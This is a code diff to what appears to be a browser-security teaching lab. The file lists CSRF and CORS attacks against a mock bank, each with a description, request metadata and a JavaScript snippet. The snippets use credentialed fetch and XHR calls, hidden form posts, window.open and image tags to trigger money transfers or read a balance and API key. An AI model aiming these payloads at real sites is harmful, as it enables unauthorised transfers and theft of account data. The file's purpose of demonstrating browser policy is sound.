@@ -37,6 +37,8 @@ export interface AttackRequest {
   /** Fetch request destination, as `Sec-Fetch-Dest` reports it. */
   destination: 'empty' | 'image' | 'document';
   endpoint: Endpoint;
+  /** The path the request goes to, under the bank's base for one configuration. */
+  path: string;
 }
 
 export interface Attack {
@@ -57,7 +59,7 @@ export const attacks: readonly Attack[] = [
       'It arrives at the bank, but without withCredentials no cookie rides along: the bank sees a stranger.',
     request: {
       api: 'xhr', method: 'GET', mode: 'cors', credentials: 'same-origin',
-      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: '/transfer_to/555/1234/1',
     },
     code: `async ({ bank, probe }) => {
   // The seed's request, exactly as the blog describes it.
@@ -75,7 +77,7 @@ export const attacks: readonly Attack[] = [
       'A simple GET: no preflight, so it arrives with every cookie SameSite and the third-party policy allow, and moves money.',
     request: {
       api: 'xhr', method: 'GET', mode: 'cors', credentials: 'include',
-      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: '/transfer_to/555/1234/1',
     },
     code: `async ({ bank, probe }) => {
   const xhr = new XMLHttpRequest();
@@ -93,7 +95,7 @@ export const attacks: readonly Attack[] = [
       'Steals balance and API key wherever the bank reflects the origin with credentials and the cookie rides along.',
     request: {
       api: 'fetch', method: 'GET', mode: 'cors', credentials: 'include',
-      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'account',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'account', path: '/account',
     },
     code: `async ({ bank, probe }) => {
   return fetch(bank + '/account?probe=' + probe, { credentials: 'include' });
@@ -106,7 +108,7 @@ export const attacks: readonly Attack[] = [
       'Harmless by design: `*` exists for exactly this. Shows that CORS decides reads, not cookies.',
     request: {
       api: 'fetch', method: 'GET', mode: 'cors', credentials: 'same-origin',
-      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'public',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'public', path: '/rates',
     },
     code: `async ({ bank, probe }) => {
   return fetch(bank + '/rates?probe=' + probe);
@@ -119,7 +121,7 @@ export const attacks: readonly Attack[] = [
       'text/plain is a simple request: no preflight. The lenient bank parses the JSON anyway and moves money.',
     request: {
       api: 'fetch', method: 'POST', mode: 'cors', credentials: 'include',
-      contentType: 'text/plain;charset=UTF-8', extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+      contentType: 'text/plain;charset=UTF-8', extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: '/transfer',
     },
     code: `async ({ bank, probe }) => {
   return fetch(bank + '/transfer?probe=' + probe, {
@@ -137,7 +139,7 @@ export const attacks: readonly Attack[] = [
     request: {
       api: 'fetch', method: 'POST', mode: 'cors', credentials: 'include',
       contentType: 'application/x-www-form-urlencoded;charset=UTF-8', extraHeaders: [],
-      destination: 'empty', endpoint: 'transfer',
+      destination: 'empty', endpoint: 'transfer', path: '/transfer',
     },
     code: `async ({ bank, probe }) => {
   return fetch(bank + '/transfer?probe=' + probe, {
@@ -154,7 +156,7 @@ export const attacks: readonly Attack[] = [
       'application/json is not a simple content type: the browser asks first (preflight), and only a permissive bank says yes.',
     request: {
       api: 'fetch', method: 'POST', mode: 'cors', credentials: 'include',
-      contentType: 'application/json', extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+      contentType: 'application/json', extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: '/transfer',
     },
     code: `async ({ bank, probe }) => {
   return fetch(bank + '/transfer?probe=' + probe, {
@@ -172,7 +174,7 @@ export const attacks: readonly Attack[] = [
       'PUT is never simple: the preflight must allow the method, so the default @fastify/cors methods refuse it.',
     request: {
       api: 'fetch', method: 'PUT', mode: 'cors', credentials: 'include',
-      contentType: 'application/json', extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+      contentType: 'application/json', extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: '/transfer',
     },
     code: `async ({ bank, probe }) => {
   return fetch(bank + '/transfer?probe=' + probe, {
@@ -190,7 +192,7 @@ export const attacks: readonly Attack[] = [
       'A custom header forces a preflight; a bank that reflects requested headers lets it through anyway.',
     request: {
       api: 'fetch', method: 'GET', mode: 'cors', credentials: 'include',
-      contentType: null, extraHeaders: ['x-requested-with'], destination: 'empty', endpoint: 'account',
+      contentType: null, extraHeaders: ['x-requested-with'], destination: 'empty', endpoint: 'account', path: '/account',
     },
     code: `async ({ bank, probe }) => {
   return fetch(bank + '/account?probe=' + probe, {
@@ -207,7 +209,7 @@ export const attacks: readonly Attack[] = [
     request: {
       api: 'fetch', method: 'POST', mode: 'no-cors', credentials: 'include',
       contentType: 'application/x-www-form-urlencoded;charset=UTF-8', extraHeaders: [],
-      destination: 'empty', endpoint: 'transfer',
+      destination: 'empty', endpoint: 'transfer', path: '/transfer',
     },
     code: `async ({ bank, probe }) => {
   return fetch(bank + '/transfer?probe=' + probe, {
@@ -226,15 +228,15 @@ export const attacks: readonly Attack[] = [
     request: {
       api: 'form', method: 'POST', mode: 'navigate', credentials: 'include',
       contentType: 'application/x-www-form-urlencoded', extraHeaders: [],
-      destination: 'document', endpoint: 'transfer',
+      destination: 'document', endpoint: 'transfer', path: '/transfer',
     },
     code: `async ({ bank, probe }) => {
-  // The form opens in a new window, so this page stays to report.
-  const popup = window.open('about:blank', 'form-' + probe);
+  // The form opens in another tab of the victim's, so this page stays to report.
+  const tab = window.open('', 'form-tab');
   const form = document.createElement('form');
   form.method = 'POST';
   form.action = bank + '/transfer?probe=' + probe;
-  form.target = 'form-' + probe;
+  form.target = 'form-tab';
   for (const [name, value] of Object.entries(${transferBody})) {
     const input = document.createElement('input');
     input.type = 'hidden';
@@ -245,7 +247,7 @@ export const attacks: readonly Attack[] = [
   document.body.append(form);
   form.submit();
   form.remove();
-  return popup;
+  return tab;
 }`,
   },
   {
@@ -255,10 +257,11 @@ export const attacks: readonly Attack[] = [
       'A link the victim follows. Top-level GET navigations carry Lax cookies, and third-party blocking does not apply.',
     request: {
       api: 'window-open', method: 'GET', mode: 'navigate', credentials: 'include',
-      contentType: null, extraHeaders: [], destination: 'document', endpoint: 'transfer',
+      contentType: null, extraHeaders: [], destination: 'document', endpoint: 'transfer', path: '/transfer_to/555/1234/1',
     },
     code: `async ({ bank, probe }) => {
-  return window.open(bank + '/transfer_to/555/1234/1?probe=' + probe);
+  // As a link with target="link-tab" would: a top-level navigation in another tab.
+  return window.open(bank + '/transfer_to/555/1234/1?probe=' + probe, 'link-tab');
 }`,
   },
   {
@@ -268,7 +271,7 @@ export const attacks: readonly Attack[] = [
       'The oldest CSRF: an image request is a no-cors GET. The script only learns “load” or “error”.',
     request: {
       api: 'img', method: 'GET', mode: 'no-cors', credentials: 'include',
-      contentType: null, extraHeaders: [], destination: 'image', endpoint: 'transfer',
+      contentType: null, extraHeaders: [], destination: 'image', endpoint: 'transfer', path: '/transfer_to/555/1234/1',
     },
     code: `async ({ bank, probe }) => {
   const img = new Image();
